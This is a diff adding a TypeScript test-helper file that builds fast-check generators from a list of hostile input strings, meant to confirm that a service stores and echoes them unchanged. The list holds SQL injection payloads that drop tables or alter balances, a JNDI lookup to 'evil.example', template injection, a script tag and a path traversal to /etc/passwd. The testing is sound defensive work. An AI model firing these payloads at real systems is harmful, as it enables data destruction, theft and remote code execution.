@@ -1,0 +1,100 @@
+// Scenario 13's hostile strings: the SQL-metacharacter list, the storable / bare-key / header-safe predicates and the
+// text arbitraries built from them.
+import fc from 'fast-check';
+
+/** SQL metacharacters and friends: every one of them is legal text that must be stored and echoed byte for byte. */
+export const HOSTILE_STRINGS: readonly string[] = [
+  "'; DROP TABLE users; --",
+  "' OR '1'='1",
+  "' OR 1=1 --",
+  '" OR ""="',
+  '1; DELETE FROM accounts',
+  "admin'--",
+  "'); UPDATE accounts SET balance = 999999999 WHERE ('1'='1",
+  "' UNION SELECT balance FROM accounts --",
+  'SELECT pg_sleep(5)',
+  '$$; DROP TABLE ledger_entries; $$',
+  '$1',
+  '$$',
+  "E'\\x41'",
+  '/* comment */',
+  '--',
+  ';',
+  '`',
+  "'",
+  '"',
+  '\\',
+  '\\\\',
+  "\\'",
+  '%',
+  '%%',
+  '_',
+  '%_%',
+  "'%'",
+  '%27',
+  '%00',
+  '\\0',
+  '\\x00',
+  '\\u0000',
+  'char(39)',
+  'NULL',
+  'null',
+  'undefined',
+  'NaN',
+  'true',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '<script>alert(1)</script>',
+  '../../../etc/passwd',
+  '%s%n%x',
+  '\u202e\u0631\u202c',
+  '\ufeff',
+  '😀👍🏽',
+  '名前',
+  'Ω≈ç√',
+  '\u00a0',
+  '\u2028\u2029',
+  'e\u0301',
+  '\ud83d\ude00',
+  '\t\r\n',
+  '\u0001\u001f',
+  '\u007f',
+];
+
+const UNSTORABLE = /\u0000|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
+export const storable = (s: string): boolean => !UNSTORABLE.test(s);
+/** Printable ASCII without comma, not starting or ending with a space: survives fetch and is a valid bare key part. */
+export const bareKeySafe = (s: string): boolean =>
+  /^[\x21-\x2b\x2d-\x7e]([\x20-\x2b\x2d-\x7e]*[\x21-\x2b\x2d-\x7e])?$/.test(s);
+/** A header value fetch sends as is: bytes 0x20-0xFF (tab allowed inside), no leading or trailing whitespace. */
+export const fetchHeaderSafe = (s: string): boolean =>
+  /^[\x21-\x7e\x80-\xff]([\t\x20-\x7e\x80-\xff]*[\x21-\x7e\x80-\xff])?$/.test(s);
+
+export const hostileText = (maxUnits: number): fc.Arbitrary<string> =>
+  fc
+    .oneof(
+      { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
+      { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
+      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
+      {
+        weight: 1,
+        arbitrary: fc.string({
+          unit: fc.integer({ min: 1, max: 0x1f }).map((c) => String.fromCharCode(c)),
+          maxLength: 6,
+        }),
+      },
+      {
+        weight: 1,
+        arbitrary: fc
+          .array(fc.constantFrom(...HOSTILE_STRINGS), { minLength: 2, maxLength: 4 })
+          .map((a) => a.join(' ')),
+      },
+    )
+    .filter((s) => storable(s) && s.length <= maxUnits);
+
+export const printableAscii = (min: number, max: number): fc.Arbitrary<string> =>
+  fc.string({
+    unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
+    minLength: min,
+    maxLength: max,
+  });
